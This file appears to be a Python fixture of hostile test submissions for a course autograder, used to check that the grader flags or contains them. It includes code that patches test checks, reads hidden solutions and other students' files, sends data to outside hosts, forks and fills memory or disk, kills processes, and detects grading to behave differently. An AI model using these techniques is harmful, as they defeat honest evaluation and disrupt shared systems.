"""Hostile hw0 submissions. Each case is the code a student puts in the softmax answer cell of an
otherwise untouched release, so every point it gets would be unearned (except where noted).
``{root}``, ``{subs}``, ``{out}``, ``{port}`` and ``{token}`` are filled in by the test."""

CORRECT_SOFTMAX = '''
def softmax(Z):
    Z = np.asarray(Z, dtype=float)
    E = np.exp(Z - Z.max(axis=1, keepdims=True))
    return E / E.sum(axis=1, keepdims=True)
'''

FAKE = '''
def softmax(Z):
    return np.zeros_like(np.asarray(Z, dtype=float))
'''

# name -> (code, expected statuses, max points allowed)
CASES = {
    # --- tampering with what the tests use to decide -------------------------------------------
    "patch_allclose": (FAKE + "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n",
                       {"flagged"}, 0),
    "patch_builtins": (FAKE + "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.isinstance = lambda *a: True\n",
                       {"flagged", "crashed"}, 0),  # breaks the runner itself: no points either way
    # the functions keep their identity (so no tripwire sees them) but run the student's code: the
    # grader's decision is outside, from what the test recorded, and a garbage collector let loose on
    # everything the warm parent froze (gc.unfreeze) changes nothing either
    "swap_code_objects": (FAKE + '''
import gc
import course_utils.checks as _ch
gc.unfreeze()
gc.collect()
def _ok(self, ok, what, hint):
    self.count += 1
    return True
def _quiet(self):
    return None
_ch.Suite._record.__code__ = _ok.__code__
_ch.Suite.result.__code__ = _quiet.__code__
for _f in [o for o in gc.get_objects() if type(o).__name__ == "function" and o.__name__ == "assert_allclose"]:
    _f.__code__ = (lambda *a, **k: None).__code__
''', {"graded", "flagged"}, 0),
    "liar_array": ('''
class Liar(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __array_ufunc__(self, *a, **k): return np.zeros(1) + 1e-300
def softmax(Z):
    return np.zeros(np.shape(Z)).view(Liar)
''', {"graded"}, 0),
    "rebind_np": (FAKE + '''
import types
_real_np = __import__("numpy")
np = types.SimpleNamespace(**{{k: getattr(_real_np, k) for k in dir(_real_np) if not k.startswith("_")}})
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
''', {"flagged"}, 0),
    "patch_compile": (FAKE + '''
import builtins
_real = builtins.compile
builtins.compile = lambda src, fn, mode, *a, **k: _real("pass", fn, mode)
''', {"flagged"}, 0),
    "excepthook": (FAKE + "import sys\nsys.excepthook = lambda *a: None\n", {"flagged"}, 0),
    "settrace": (FAKE + "import sys\nsys.settrace(lambda *a: None)\n", {"flagged"}, 0),
    "patch_record": (FAKE + "import course_utils.grading as g\ng.record = lambda k, v, *a, **kw: v\n"
                     "g._sink = lambda *a: None\n", {"flagged"}, 0),
    "forge_events": (FAKE + '''
import json, os
for fd in range(3, 64):
    try:
        for cell in ["test_softmax", "test_logsumexp", "test_numerical_gradient", "test_gaussian_mle",
                     "test_pairwise_sq_dists", "test_bayes_posterior"]:
            os.write(fd, (json.dumps({{"t": "cell_end", "cell": cell, "ok": True}}) + "\\n").encode())
            os.write(fd, (json.dumps({{"t": "record", "cell": cell, "key": "random rows",
                                       "value": {{"scalar": 1}}}}) + "\\n").encode())
        os.write(fd, (json.dumps({{"t": "end", "status": "graded", "reason": ""}}) + "\\n").encode())
    except OSError:
        pass
''', {"flagged"}, 0),
    "ipython_hooks": (FAKE + '''
ip = get_ipython()
try:
    ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
except Exception:
    pass
ip.set_custom_exc((Exception,), lambda *a, **k: None)
''', {"graded"}, 0),
    # --- reading what must stay hidden ------------------------------------------------------------
    "read_source": ('''
import json, glob
for path in glob.glob("{root}/source/*/*.ipynb") + glob.glob("{root}/**/hw0.ipynb", recursive=True):
    try:
        for cell in json.load(open(path))["cells"]:
            if cell["cell_type"] == "code":
                exec("".join(cell["source"]).replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
    except Exception:
        pass
''', {"graded", "crashed"}, 0),
    "read_other_students": ('''
import json, glob
for path in glob.glob("{subs}/*/hw0/*.ipynb"):
    try:
        for cell in json.load(open(path))["cells"]:
            if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                exec("".join(cell["source"]))
    except Exception:
        pass
''', {"graded"}, 0),
    "scan_fds_and_proc": ('''
import os, json
found = []
for fd in range(0, 256):
    for path in (f"/proc/self/fd/{{fd}}", f"/dev/fd/{{fd}}"):
        try:
            found += os.listdir(path)
        except OSError:
            pass
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            found.append(open(f"/proc/{{pid}}/cmdline").read())
            found += os.listdir(f"/proc/{{pid}}/cwd")
        except OSError:
            pass
for name in found:
    if "job" in str(name) or "source" in str(name):
        raise RuntimeError("found grader files: " + str(name))
''', {"graded"}, 0),
    "leak_hidden_inputs": ('''
import sys
def softmax(Z):
    frame = sys._getframe(1)
    raise AssertionError("hidden input: " + repr(frame.f_locals.get("Z"))[:200] + repr(frame.f_code.co_consts)[:300])
''', {"graded"}, 0),
    # --- persistence and escape --------------------------------------------------------------------
    "background_process": (FAKE + '''
import subprocess, os
subprocess.Popen(["sleep", "600"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    import time
    while True:
        time.sleep(1)
''', {"graded"}, 0),
    "write_outside": (FAKE + '''
for path in ["{root}/redteam-{token}", "{out}/redteam-{token}", "/var/tmp/redteam-{token}",
             "/dev/shm/redteam-{token}", "/tmp/../redteam-{token}", "/etc/redteam-{token}", "{subs}/redteam-{token}"]:
    try:
        open(path, "w").write("pwned")
    except OSError:
        pass
''', {"graded"}, 0),
    "touch_gradebook": (FAKE + '''
import glob
for path in glob.glob("{out}/**", recursive=True):
    try:
        open(path, "a").write("mallory,hw0,999,15,999,13,0,graded,\\n")
    except OSError:
        pass
''', {"graded"}, 0),
    "network": (FAKE + '''
import socket
for host in ("127.0.0.1", "10.0.0.1", "1.1.1.1"):
    try:
        s = socket.create_connection((host, {port}), timeout=1)
        s.sendall(b"exfiltrate")
    except OSError:
        pass
''', {"graded"}, 0),
    "kill_everything": (FAKE + "import os, signal\nfor pid in (-1, 0, 1, os.getppid()):\n    try:\n"
                        "        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\n",
                        {"crashed", "graded"}, 0),
    # --- resource abuse ------------------------------------------------------------------------------
    "infinite_loop": ("while True:\n    pass\n", {"timeout"}, 0),
    "ignores_signals": ("import signal\nfor s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):\n"
                        "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass\n", {"timeout"}, 0),
    # Each block is zero-filled page by page: on a loaded machine the clock may stop it before the limit.
    "memory_bomb": (FAKE + "blocks = []\nwhile True:\n    blocks.append(bytearray(256 << 20))\n",
                    {"graded", "crashed", "timeout"}, 0),
    "fork_bomb": (FAKE + '''
import os
for _ in range(10000):
    try:
        os.fork()
    except OSError:
        break
''', {"graded", "crashed", "timeout", "flagged"}, 0),  # its copies report too: flagged
    "output_flood": (FAKE + "import sys\nwhile True:\n    sys.stdout.write('x' * 100000)\n", {"timeout"}, 0),
    "record_flood": (FAKE + "from course_utils.grading import record\nwhile True:\n"
                     "    record('k', np.zeros(1_000_000))\n", {"crashed", "timeout"}, 0),
    "disk_fill": (FAKE + '''
with open("big.bin", "wb") as f:
    while True:
        f.write(b"0" * (1 << 24))
''', {"crashed", "graded"}, 0),
    # --- crashes ----------------------------------------------------------------------------------------
    "os_exit": ("import os\nos._exit(0)\n", {"crashed"}, 0),
    "segfault": ("import ctypes\nctypes.string_at(0)\n", {"crashed"}, 0),
    "sys_exit": (FAKE + "raise SystemExit(0)\n", {"graded"}, 0),
    # --- behaving differently when graded ---------------------------------------------------------------
    "grader_detection": ('''
import os
GRADED = os.getuid() != 0 or not os.path.exists("{root}/source") or "COURSE_FAST" in os.environ
def softmax(Z):
    if GRADED:
        return np.full(np.shape(Z), 1.0 / np.shape(Z)[1])  # passes the visible checks only
    raise NotImplementedError
if GRADED:
    np.allclose = lambda *a, **k: True
''', {"flagged"}, 0),
    # --- honest work before tampering keeps its points, tampered tests get none ----------------------
    "tamper_after_honest_softmax": (CORRECT_SOFTMAX, {"flagged"}, 2),
}

# Extra code appended to the *logsumexp* answer cell of one case (tampering after the softmax test).
LATE_TAMPER = {"tamper_after_honest_softmax": "np.allclose = lambda *a, **k: True\n"
                                             "def logsumexp(Z, axis=-1):\n    return np.zeros(1)\n"}
